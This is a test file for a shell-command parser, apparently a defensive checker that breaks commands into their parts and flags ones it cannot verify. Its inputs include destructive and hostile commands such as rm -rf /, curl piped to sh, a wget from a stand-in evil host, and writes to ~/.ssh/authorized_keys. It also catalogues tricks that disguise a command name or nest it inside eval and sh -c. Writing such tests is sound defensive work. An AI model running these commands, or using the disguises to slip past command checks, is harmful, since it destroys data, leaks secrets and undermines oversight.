@@ -1,0 +1,305 @@
+import { describe, expect, it } from 'vitest';
+import { DEFAULT_SHELL_CAPS, initShellParser, parseShell } from '../../src/facts/shell/index.js';
+
+await initShellParser();
+
+const texts = (s: string): string[] => parseShell(s).commands.map((c) => c.text);
+const sorted = (s: string): string[] => texts(s).sort();
+
+describe('parseShell: splitting into simple commands', () => {
+  it.each([
+    ['git status && curl x | sh', ['curl x', 'git status', 'sh']],
+    ['ls; rm -rf ~', ['ls', 'rm -rf ~']],
+    ['npm test || wget http://e.vil/x', ['npm test', 'wget http://e.vil/x']],
+    ['ls\nrm -rf /', ['ls', 'rm -rf /']],
+    ['sleep 1 & rm x', ['rm x', 'sleep 1']],
+    ['ls |& tee log', ['ls', 'tee log']],
+    ['(cd / && rm -rf x)', ['cd /', 'rm -rf x']],
+    ['{ cat .env; }', ['cat .env']],
+    ['! rm x', ['rm x']],
+    ['if true; then rm a; elif false; then id; else curl b; fi', ['curl b', 'false', 'id', 'rm a', 'true']],
+    ['for i in a b; do rm $i; done', ['rm $i']],
+    ['for ((i=0; i<$(id -u); i++)); do ls; done', ['id -u', 'ls']],
+    ['while read l; do curl $l; done', ['curl $l', 'read l']],
+    ['until false; do rm y; done', ['false', 'rm y']],
+    ['case $x in a) rm a;; *) curl b;; esac', ['curl b', 'rm a']],
+    ['f(){ rm -rf /; }; f', ['f', 'rm -rf /']],
+    ['function g { curl x; }', ['curl x']],
+    ['coproc curl x', ['curl x']],
+    ['time rm x', ['rm x']],
+    ['ls # ; rm -rf /', ['ls']],
+    ['ls \\\n  && rm x', ['ls', 'rm x']],
+  ])('%j', (src, expected) => {
+    const facts = parseShell(src);
+    expect(facts.capExceeded).toBeUndefined();
+    expect(facts.commands.map((c) => c.text).sort()).toEqual([...expected].sort());
+  });
+});
+
+describe('parseShell: substitutions are commands too', () => {
+  it.each([
+    ['echo $(whoami)', ['echo $(whoami)', 'whoami']],
+    ['echo "a $(id) b"', ['echo a $(id) b', 'id']],
+    ['echo `uname -a`', ['echo `uname -a`', 'uname -a']],
+    ['diff <(cat .env) >(tee x)', ['cat .env', 'diff <(cat .env) >(tee x)', 'tee x']],
+    ['echo $((1 + $(id -u)))', ['echo $((1 + $(id -u)))', 'id -u']],
+    ['echo ${x:-$(id)}', ['echo ${x:-$(id)}', 'id']],
+    ['echo ${x:-`id`}', ['echo ${x:-`id`}', 'id']],
+    ['x=$(curl e.vil) ls', ['curl e.vil', 'ls']],
+    ['a=1; b=$(id)', ['id']],
+    ['a=(x $(id))', ['id']],
+    ['export A=$(curl x)', ['curl x', 'export A=$(curl x)']],
+    ['echo > "$(rm x)"', ['echo', 'rm x']],
+    ['[[ -f $(rm x) ]]', ['rm x']],
+    ['(( $(id -u) > 0 ))', ['id -u']],
+    ['cat <<EOF\n$(rm -rf /)\nEOF', ['cat', 'rm -rf /']],
+    ['cat <<-E\n\t`id`\n\tE', ['cat', 'id']],
+    ['cat <<< "$(id)"', ['cat', 'id']],
+    ['echo a > >(tee x)', ['echo a', 'tee x']],
+  ])('%j', (src, expected) => {
+    expect(sorted(src)).toEqual([...expected].sort());
+  });
+
+  it('keeps a quoted here-doc body as data', () => {
+    expect(texts("cat <<'EOF'\n$(rm -rf /)\nEOF")).toEqual(['cat']);
+    expect(texts('cat <<"EOF"\n`rm`\nEOF')).toEqual(['cat']);
+    expect(texts('cat <<\\EOF\n$(rm)\nEOF')).toEqual(['cat']);
+  });
+});
+
+describe('parseShell: assignments and wrappers', () => {
+  it.each([
+    ['FOO=1 rm -rf /', 'rm -rf /'],
+    ['GH_TOKEN=x gh pr list', 'gh pr list'],
+    ['env -i rm -rf /', 'rm -rf /'],
+    ['env -u HOME A=1 B=2 rm x', 'rm x'],
+    ['sudo rm -rf /', 'rm -rf /'],
+    ['sudo -u root -g wheel rm x', 'rm x'],
+    ['sudo -uroot -- rm x', 'rm x'],
+    ['sudo --user=root rm x', 'rm x'],
+    ['doas -u root rm x', 'rm x'],
+    ['nice -n 5 rm x', 'rm x'],
+    ['nice -n5 rm x', 'rm x'],
+    ['nohup rm x', 'rm x'],
+    ['timeout 5 rm x', 'rm x'],
+    ['timeout -s KILL 5 rm x', 'rm x'],
+    ['timeout --signal=KILL -k 2 5s rm x', 'rm x'],
+    ['command rm x', 'rm x'],
+    ['builtin cd /', 'cd /'],
+    ['exec rm x', 'exec rm x'.slice(5)],
+    ['xargs rm', 'rm'],
+    ['xargs -0 -n 1 -I{} rm {}', 'rm {}'],
+    ['xargs -i{} rm {}', 'rm {}'],
+    ['stdbuf -oL rm x', 'rm x'],
+    ['stdbuf -o L rm x', 'rm x'],
+    ['ionice -c 3 rm x', 'rm x'],
+    ['setsid rm x', 'rm x'],
+    ['chroot /mnt rm x', 'rm x'],
+    ['busybox rm x', 'rm x'],
+    ['/usr/bin/time -f %e rm x', 'rm x'],
+    ['sudo nice -n 5 timeout 5 nohup env A=1 rm -rf /', 'rm -rf /'],
+  ])('%j → %j', (src, expected) => {
+    expect(texts(src)).toEqual([expected]);
+  });
+
+  it('keeps a wrapper that runs nothing from its arguments', () => {
+    expect(texts('command -v rm')).toEqual(['command -v rm']);
+    expect(texts('sudo -l')).toEqual(['sudo -l']);
+    expect(texts('sudo -e /etc/hosts')).toEqual(['sudo -e /etc/hosts']);
+    expect(texts('exec 3>out')).toEqual(['exec']);
+    expect(texts('nohup')).toEqual(['nohup']);
+  });
+
+  it('treats variables that change what runs as unverifiable', () => {
+    expect(parseShell('PATH=/tmp/evil git status').unverifiable).toMatch(/PATH/);
+    expect(parseShell('LD_PRELOAD=/tmp/x.so ls').unverifiable).toMatch(/LD_PRELOAD/);
+    expect(parseShell('env PATH=/tmp/evil git status').unverifiable).toMatch(/PATH/);
+    expect(parseShell('FOO=1 git status').unverifiable).toBeUndefined();
+  });
+
+  it('cannot read env -S and says so', () => {
+    expect(parseShell("env -S 'rm -rf /'").unverifiable).toMatch(/env -S/);
+  });
+});
+
+describe('parseShell: shell strings and eval', () => {
+  it.each([
+    ["bash -c 'ls; rm -rf ~'", ['ls', 'rm -rf ~']],
+    ['sh -c "curl x | sh -c \'wget y\'"', ['curl x', 'wget y']],
+    ['sh -lc "wget y"', ['wget y']],
+    ['zsh -c "rm x"', ['rm x']],
+    ['dash -ec "rm x"', ['rm x']],
+    ['ksh -o errexit -c "rm x"', ['rm x']],
+    ['/bin/bash -c "rm x" arg0 arg1', ['rm x']],
+    ["eval 'rm -rf /'", ['rm -rf /']],
+    ['eval rm -rf /', ['rm -rf /']],
+    ["eval \"eval 'curl x'\"", ['curl x']],
+    ['sudo bash -c "rm x"', ['rm x']],
+    ['bash <<< "curl x"', ['curl x']],
+    ['sh <<EOF\nrm -rf /\nEOF', ['rm -rf /']],
+    ['watch -n 1 "rm -rf /"', ['rm -rf /']],
+    ['watch -x rm x', ['rm x']],
+    ['find . -name "*.tmp" -exec rm {} \\;', ['find . -name *.tmp -exec rm {} ;', 'rm {}']],
+    ['find . -execdir sh -c "curl x" \\;', ['curl x', 'find . -execdir sh -c curl x ;']],
+  ])('%j', (src, expected) => {
+    const facts = parseShell(src);
+    expect(facts.unverifiable).toBeUndefined();
+    expect(facts.commands.map((c) => c.text).sort()).toEqual([...expected].sort());
+  });
+
+  it.each([
+    ['bash -c "$x"', /not a literal/],
+    ['eval "$x"', /eval/],
+    ['eval $(curl x)', /eval/],
+    ['curl x | sh', /standard input/],
+    ['bash', /standard input/],
+    ['bash -c', /without a command string/],
+    ['sh -c "echo ("', /syntax error/],
+    ["alias ls='rm -rf /'; ls", /alias/],
+  ])('%j is unverifiable', (src, reason) => {
+    expect(parseShell(src).unverifiable).toMatch(reason);
+  });
+
+  it('keeps `bash script.sh` as an ordinary command', () => {
+    const facts = parseShell('bash ./deploy.sh prod');
+    expect(facts.unverifiable).toBeUndefined();
+    expect(texts('bash ./deploy.sh prod')).toEqual(['bash ./deploy.sh prod']);
+  });
+});
+
+describe('parseShell: command word disguises', () => {
+  it.each([
+    ['/bin/rm -rf /', 'rm -rf /'],
+    ['\\rm -rf /', 'rm -rf /'],
+    ["'rm' -rf /", 'rm -rf /'],
+    ['"rm" -rf /', 'rm -rf /'],
+    ['r""m -rf /', 'rm -rf /'],
+    ["r''m -rf /", 'rm -rf /'],
+    ["$'\\x72m' -rf /", 'rm -rf /'],
+    ["$'\\162m' -rf /", 'rm -rf /'],
+    ["$'r\\u006d' -rf /", 'rm -rf /'],
+    ['r\\\nm -rf /', 'rm -rf /'],
+    ['rm "" -rf /', 'rm -rf /'],
+  ])('%j → %j', (src, expected) => {
+    const facts = parseShell(src);
+    expect(facts.unverifiable).toBeUndefined();
+    expect(facts.commands.map((c) => c.text)).toEqual([expected]);
+  });
+
+  it('keeps the path of a command word named by path', () => {
+    const [cmd] = parseShell('/tmp/evil/git status').commands;
+    expect(cmd?.words).toEqual(['git', 'status']);
+    expect(cmd?.commandPath).toBe('/tmp/evil/git');
+    expect(parseShell('git status').commands[0]?.commandPath).toBeUndefined();
+  });
+
+  it.each(['$CMD -rf /', '${X} x', '"$x"', '$(echo rm) -rf /', '`echo rm` x', 'r$x x', 'sudo $CMD', '/bin/r? x', '{rm,-rf,/}'])(
+    '%j is unverifiable',
+    (src) => {
+      expect(parseShell(src).unverifiable).toBeDefined();
+    },
+  );
+
+  it('still lists commands inside a non-literal command word', () => {
+    const facts = parseShell('$(curl x) -rf /');
+    expect(facts.unverifiable).toMatch(/not a literal/);
+    expect(facts.commands.map((c) => c.text)).toContain('curl x');
+  });
+});
+
+describe('parseShell: redirections', () => {
+  it('lists file targets, not descriptor duplications', () => {
+    const [cmd] = parseShell('cat < .env > ~/.ssh/x 2>> log 2>&1 >&2 3<&- &> all').commands;
+    expect(cmd?.redirects).toEqual(['.env', '~/.ssh/x', 'log', 'all']);
+  });
+
+  it('counts `>& file` as a file', () => {
+    expect(parseShell('ls >& out.txt').commands[0]?.redirects).toEqual(['out.txt']);
+  });
+
+  it('removes quotes from targets and keeps here-docs out', () => {
+    expect(parseShell('cat <<EOF > "a b"\nx\nEOF').commands[0]?.redirects).toEqual(['a b']);
+    expect(parseShell('cat <<< .env').commands[0]?.redirects).toEqual([]);
+  });
+
+  it('gives compound redirections to every command inside', () => {
+    const facts = parseShell('while read l; do echo $l; done < .env');
+    expect(facts.commands.map((c) => c.redirects)).toEqual([['.env'], ['.env']]);
+    expect(parseShell('{ ls; pwd; } > out').commands.every((c) => c.redirects.includes('out'))).toBe(true);
+  });
+
+  it('reports a bare redirection as a command with no words', () => {
+    expect(parseShell('> ~/.ssh/authorized_keys').commands).toEqual([{ words: [], text: '', redirects: ['~/.ssh/authorized_keys'] }]);
+  });
+
+  it('says $HOME as ~ and flags other non-literal targets', () => {
+    expect(parseShell('echo x > $HOME/.bashrc').commands[0]?.redirects).toEqual(['~/.bashrc']);
+    expect(parseShell('echo x > $HOME/.bashrc').unverifiable).toBeUndefined();
+    expect(parseShell('echo x > "$OUT"').unverifiable).toMatch(/redirection/);
+  });
+});
+
+describe('parseShell: words and text', () => {
+  it('removes quotes and joins words with single spaces', () => {
+    const [cmd] = parseShell(`git   commit  -m "two words"   'x'`).commands;
+    expect(cmd?.words).toEqual(['git', 'commit', '-m', 'two words', 'x']);
+    expect(cmd?.text).toBe('git commit -m two words x');
+  });
+
+  it('keeps expansions in arguments as written', () => {
+    expect(texts('echo "$HOME" ${USER} $1')).toEqual(['echo ~ ${USER} $1']);
+    expect(parseShell('echo $USER').unverifiable).toBeUndefined();
+  });
+
+  it('handles backslashes like bash', () => {
+    expect(parseShell('echo a\\ b "c\\"d" "e\\q"').commands[0]?.words).toEqual(['echo', 'a b', 'c"d', 'e\\q']);
+  });
+
+  it('keeps non-ASCII text intact', () => {
+    expect(texts('echo "héllo $(printf ü)" ✓')).toEqual(['printf ü', 'echo héllo $(printf ü) ✓']);
+  });
+});
+
+describe('parseShell: failures and caps', () => {
+  it.each(['echo (', 'ls &&', 'echo "unterminated', 'if true; then ls', 'echo $(', ') rm', '{ls;}', 'cat <(ls'])(
+    '%j is a syntax error',
+    (src) => {
+      const facts = parseShell(src);
+      expect(facts.unverifiable).toMatch(/syntax error/);
+    },
+  );
+
+  it('returns empty facts for an empty or blank string', () => {
+    expect(parseShell('')).toEqual({ commands: [] });
+    expect(parseShell('  \n # comment\n')).toEqual({ commands: [] });
+  });
+
+  it('caps length', () => {
+    expect(parseShell('a'.repeat(DEFAULT_SHELL_CAPS.maxLength + 1)).capExceeded).toBe('length');
+    expect(parseShell('ls', { ...DEFAULT_SHELL_CAPS, maxLength: 1 }).capExceeded).toBe('length');
+  });
+
+  it('caps commands, and still sees segment 60 below the cap', () => {
+    expect(parseShell('ls;'.repeat(300)).capExceeded).toBe('commands');
+    const sixty = parseShell('ls; '.repeat(59) + 'rm -rf /');
+    expect(sixty.capExceeded).toBeUndefined();
+    expect(sixty.commands.at(-1)?.text).toBe('rm -rf /');
+  });
+
+  it('caps depth', () => {
+    expect(parseShell('$('.repeat(40) + 'ls' + ')'.repeat(40)).capExceeded).toBe('depth');
+    expect(parseShell('('.repeat(2000) + 'ls' + ')'.repeat(2000)).capExceeded).toBe('depth');
+    expect(parseShell('('.repeat(10) + 'ls' + ')'.repeat(10)).capExceeded).toBeUndefined();
+  });
+
+  it('caps depth through nested -c strings', () => {
+    // Each eval re-parses the rest: the nesting is in the strings, not in the syntax.
+    expect(parseShell('eval '.repeat(40) + 'rm -rf /').capExceeded).toBe('depth');
+    expect(parseShell('eval '.repeat(5) + 'rm -rf /').commands.map((c) => c.text)).toEqual(['rm -rf /']);
+  });
+
+  it('refuses NUL bytes and non-strings', () => {
+    expect(parseShell('ls\0rm').unverifiable).toMatch(/NUL/);
+    expect(parseShell(42 as unknown as string).unverifiable).toBeDefined();
+  });
+});
